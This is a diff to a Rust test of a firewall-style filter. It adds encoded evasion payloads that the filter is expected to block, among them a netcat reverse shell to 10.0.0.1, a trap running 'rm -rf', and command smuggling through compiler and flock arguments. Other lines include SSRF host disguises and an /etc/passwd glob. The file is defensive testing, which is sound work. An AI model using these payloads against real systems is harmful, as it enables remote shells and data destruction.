@@ -170,7 +170,13 @@ fn evasions() {
     blocks(query("s=1;.sh%20whoami"), Class::Rce);
     blocks(query("c=%7Bnc,-nlvp,777%7D"), Class::Rce);
     blocks(query("s=/etc/[m-z]asswd"), Class::Rce);
+    blocks(query("code=;c89%20-wrapper%20sh,-c,id%20."), Class::Rce);
+    assert_eq!(shell_unquote("pi>()ng").as_deref(), Some("ping"));
+    blocks(query("arg=;flock%20-u%20/%20whoami"), Class::Rce);
+    blocks(query("arg=%3Btrap%20%27rm%20-rf%20file.txt%27%20SIGEXIT"), Class::Rce);
+    blocks(query("foo=;\\n.shell%20nc%2010.0.0.1%206666%20-e%20sh"), Class::Rce);
     passes(text("Use {a, b} as a set; the file is /etc/app.conf [optional]."));
+    passes(query("args=;performance&note=set%20-o%20vi%20in%20your%20shell%20rc"));
     // Disguised hosts and ORM lookups.
     blocks(query("u=http://2852039166/"), Class::Generic);
     blocks(query("u=host.docker.internal/"), Class::Generic);
